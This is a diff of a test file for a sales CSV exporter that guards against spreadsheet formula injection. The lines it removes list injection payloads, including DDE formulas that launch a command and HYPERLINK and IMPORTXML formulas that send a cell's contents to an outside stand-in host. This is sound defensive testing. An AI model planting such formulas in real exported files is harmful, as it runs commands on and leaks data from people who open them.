@@ -1,11 +1,6 @@
 import t from 'tap';
 import { COLUMNS, csvCells, csvLine, saleCells, textCell } from '../../src/sales/saleLine.ts';
-
-/** What spreadsheets have been made to run: formulas, commands, links, and the characters that hide them. */
-const PAYLOADS = [
-  '=cmd|\' /C calc\'!A0', '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', '=DDE("cmd";"/C calc";"x")', '+1+1', '+cmd|x!A0', '-2+3', '-1+cmd|x!A0', '@SUM(1)', '@import', '\tx', '\t=1+1',
-  '\rx', '\r\n=1+1', '\0x', '\0=1+1',
-];
+import { hidden, PAYLOADS } from './payloads.ts';
 
 t.test('text that a spreadsheet would run gets an apostrophe; numbers do not', async (t) => {
   for (const payload of PAYLOADS) t.equal(textCell(payload), `'${payload}`, JSON.stringify(payload));
@@ -16,7 +11,7 @@ t.test('text that a spreadsheet would run gets an apostrophe; numbers do not', a
 
 t.test('no payload leaves its cell, and none begins one', async (t) => {
   for (const payload of PAYLOADS) {
-    for (const text of [payload, `a,${payload}`, `"${payload}`, `x"\r\n${payload}`]) {
+    for (const text of hidden(payload)) {
       const cells = ['left', textCell(text), 'right'];
       const read = csvCells(csvLine(cells));
       t.same(read, cells, JSON.stringify(text));
